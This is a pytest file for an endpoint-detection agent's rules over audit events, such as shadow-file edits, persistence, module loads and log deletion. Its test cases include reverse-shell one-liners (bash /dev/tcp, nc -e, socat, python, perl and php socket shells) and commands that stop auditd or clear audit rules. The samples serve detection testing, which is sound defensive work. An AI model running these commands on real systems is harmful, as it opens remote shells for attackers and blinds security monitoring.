"""Rules over recorded events: what each is there for is found, what is harmless is not, and all of it is explained."""

from __future__ import annotations

import re
from typing import Any, Final

import pytest
from msgspec.structs import replace
from tests.agent.edr.test_records import RECORDED, events_of

from shieldwall.agent.edr.events import AuditEvent, Path
from shieldwall.agent.edr.findings import finding_of
from shieldwall.agent.edr.rules import KEY, Surroundings, load_rules, matching, subject_of

AROUND: Final = Surroundings(web_users={33})
RULES: Final = {rule.id: rule for rule in load_rules()}
PACKS: Final = frozenset(
    {
        *("identity", "authentication", "privilegeescalation", "moduleloading", "timechange", "mounts"),
        *("networkconfiguration", "persistence", "processinjection", "logdeletion", "securitytools", "accessdenied"),
        *("permissionchanges", "filedeletion", "connections", "execution"),
    }
)
FOUND: Final = {
    "passwordFileChanged": {"passwordFileChanged"},
    "scheduleChanged": {"scheduleChanged"},
    "sshKeyChanged": {"sshKeyChanged"},
    "reverseShell": {"reverseShell"},
    "longArgument": set(),
    "processInjected": {"processInjected"},
    "killed": set(),
    "runFromMemory": {"runFromMemory"},
    "shellFromWebServer": {"shellFromWebServer"},
    "securityToolStopped": {"securityToolStopped"},
    "connection": set(),
    "moduleLoad": set(),
    "auditRulesRemoved": {"auditRulesRemoved", "securityToolStopped"},
    "auditOff": {"auditOff", "securityToolStopped"},
}
"""By what was done; the kernel kept the module out, and what was killed was a ``sleep``."""


def happened(key: str, **members: Any) -> AuditEvent:
    defaults: dict[str, Any] = {
        "serial": 1,
        "at": 1795673528.0,
        "kinds": frozenset({"SYSCALL"}),
        "success": True,
        "uid": 0,
        "effective_uid": 0,
        "pid": 4711,
        "executable": "/usr/bin/vi",
        "keys": (f"{KEY}{key}",),
    }
    if key == "execution":
        defaults["call"] = "execve"
    return AuditEvent(**(defaults | members))


def found(event: AuditEvent, around: Surroundings = AROUND) -> set[str]:
    return {rule.id for rule in matching(RULES.values(), event, around)}


def at(path: str, kind: str = "NORMAL") -> tuple[Path, ...]:
    return (Path(name=path, kind=kind),)


@pytest.mark.parametrize("done", FOUND)
def test_what_really_happened_is_found(done: str) -> None:
    assert {name for event in events_of(RECORDED[done]) for name in found(event)} == FOUND[done]


def test_every_rule_is_explained_names_real_packs_and_is_told_apart() -> None:
    assert len(RULES) == len(load_rules()) >= 15
    for rule in RULES.values():
        assert len(rule.explanation) > 40, rule.id
        assert set(rule.when.keys) <= PACKS, rule.id
        assert rule.when.keys or rule.when.said, rule.id
        re.compile(rule.when.arguments)


@pytest.mark.parametrize(
    ("event", "expected"),
    [
        (happened("identity", paths=at("/etc/shadow")), {"passwordFileChanged"}),
        (happened("identity", paths=at("/etc/shadow"), executable="/usr/bin/passwd"), set()),
        (happened("identity", paths=at("/etc/passwd"), executable="/usr/bin/dpkg"), set()),
        (happened("identity", paths=at("/etc/shadow"), success=False), set()),
        (happened("identity", paths=at("/etc/sudoers.d/me", "CREATE")), {"sudoersChanged"}),
        (happened("identity", paths=at("/etc/sudoers"), executable="/usr/sbin/visudo"), set()),
        (happened("processinjection", executable="/usr/bin/gdb"), set()),
        (happened("processinjection", executable="/tmp/x"), {"processInjected"}),
        (happened("moduleloading", call="finit_module", executable="/tmp/x"), {"moduleLoadedUnusually"}),
        (happened("moduleloading", call="finit_module", executable="/usr/bin/kmod"), set()),
        (
            happened("moduleloading", call="finit_module", executable="/usr/bin/kmod", login_uid=1000),
            {"moduleLoadedBySomebody"},
        ),
        (happened("authentication", paths=at("/home/ada/.ssh/authorized_keys")), {"sshKeyChanged"}),
        (happened("authentication", paths=at(".ssh/authorized_keys"), directory="/home/ada"), {"sshKeyChanged"}),
        (happened("authentication", paths=at("/home/ada/.ssh/known_hosts")), set()),
        (happened("authentication", paths=at("/etc/pam.d/sshd")), {"loginModuleChanged"}),
        (happened("persistence", paths=at("/etc/ld.so.preload", "CREATE")), {"preloadChanged"}),
        (happened("persistence", paths=at("x.service", "CREATE"), directory="/etc/systemd/system"), {"serviceChanged"}),
        (happened("persistence", paths=at("/etc/systemd/system/x.service"), executable="/usr/bin/dpkg"), set()),
        (
            happened(
                "persistence",
                paths=at("/etc/systemd/system/x.service"),
                executable="/usr/lib/shieldwall-agent/bin/python3.11",
            ),
            set(),
        ),
        (
            happened(
                "persistence", paths=at("/var/spool/cron/crontabs/ada"), executable="/usr/bin/crontab", login_uid=7
            ),
            {"crontabChanged"},
        ),
        (happened("securitytools", call="kill", target="clamd", executable="/usr/bin/kill"), {"securityToolKilled"}),
        (happened("securitytools", call="kill", target="sleep"), set()),
        (happened("securitytools", paths=at("/etc/clamav/clamd.conf")), {"securityConfigurationChanged"}),
        (happened("logdeletion", paths=at("/var/log/auth.log", "DELETE"), executable="/usr/bin/rm"), {"logsRemoved"}),
        (happened("logdeletion", executable="/usr/sbin/logrotate"), set()),
        (happened("execution", executable="/dev/shm/x"), {"runFromSharedMemory"}),
        (happened("execution", executable="/memfd:runc_cloned:/proc/self/exe (deleted)"), set()),
        (happened("execution", uid=33, executable="/usr/bin/bash", arguments=("bash", "-i")), {"shellFromWebServer"}),
        (happened("execution", uid=33, executable="/usr/bin/bash", login_uid=1000), set()),
        (happened("execution", uid=33, executable="/usr/sbin/php-fpm8.2", arguments=("php-fpm",)), set()),
        (
            happened(
                "execution", uid=33, executable="/usr/bin/dash", arguments=("sh", "-c", "/usr/sbin/sendmail -t -i")
            ),
            set(),
        ),
        (happened("watch_mine", paths=at("/etc/shadow")), {"passwordFileChanged"}),
        (happened("privilegeescalation", call="execve", executable="/dev/shm/x"), {"runFromSharedMemory"}),
        (happened("timechange"), set()),
    ],
)
def test_what_a_rule_is_about_is_found_and_nothing_else(event: AuditEvent, expected: set[str]) -> None:
    assert found(event) == expected


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", True),
        ("nc -e /bin/sh 203.0.113.9 4444", True),
        ("ncat --ssl 203.0.113.9 4444 -e /bin/bash", True),
        ("socat TCP:203.0.113.9:1 EXEC:'bash -li'", True),
        ("python3 -c import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn('sh')", True),
        ("perl -e use Socket;$i=1;exec('/bin/sh -i')", True),
        ("php -r $s=fsockopen('203.0.113.9',1);exec('sh');", True),
        ("nc -z localhost 80", False),
        ("grep /dev/tcp /usr/share/doc/bash/README", False),
        ("python3 -c import socket; print(socket.gethostname())", False),
        ("ls /dev", False),
    ],
)
def test_shells_over_the_network_are_told_from_tools_of_the_network(command: str, expected: bool) -> None:
    assert ("reverseShell" in found(happened("execution", arguments=tuple(command.split())))) is expected


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("systemctl stop auditd", True),
        ("/usr/bin/systemctl --now disable clamav-daemon.service", True),
        ("systemctl mask shieldwall-applier", True),
        ("service auditd stop", True),
        ("auditctl -D", True),
        ("auditctl -e 0", True),
        ("auditctl -l", False),
        ("systemctl status auditd", False),
        ("systemctl stop nginx", False),
    ],
)
def test_stopping_what_protects_is_told_from_looking_at_it(command: str, expected: bool) -> None:
    event = happened("execution", arguments=tuple(command.split()), executable="/usr/bin/systemctl")
    assert ("securityToolStopped" in found(event)) is expected
    assert "securityToolStopped" not in found(event, replace(AROUND, is_own=lambda _event: True))


def test_a_finding_says_who_did_what_with_which_program() -> None:
    (event,) = [each for each in events_of(RECORDED["passwordFileChanged"]) if each.call == "openat"]
    finding = finding_of(RULES["passwordFileChanged"], event, lambda uid: f"user{uid}")

    assert (finding.kind, finding.severity.value, finding.subject) == ("edr.passwordFileChanged", "high", "/etc/shadow")
    assert finding.details["executable"].startswith("/usr/bin/python3")
    assert (finding.details["user"], finding.details["path"]) == ("user0", "/etc/shadow")
    assert finding.details["explanation"] == RULES["passwordFileChanged"].explanation
    assert finding.at.endswith("Z")


def test_the_file_of_a_program_is_the_program_and_not_its_loader() -> None:
    (event,) = [each for each in events_of(RECORDED["shellFromWebServer"]) if each.arguments[:1] == ("sh",)]
    finding = finding_of(RULES["shellFromWebServer"], event, str)

    assert finding.details["path"] == "/bin/sh"
    assert finding.details["user"] == "33"


def test_what_a_finding_is_about_is_never_missing() -> None:
    for rule in RULES.values():
        assert isinstance(subject_of(rule, happened("identity")), str)
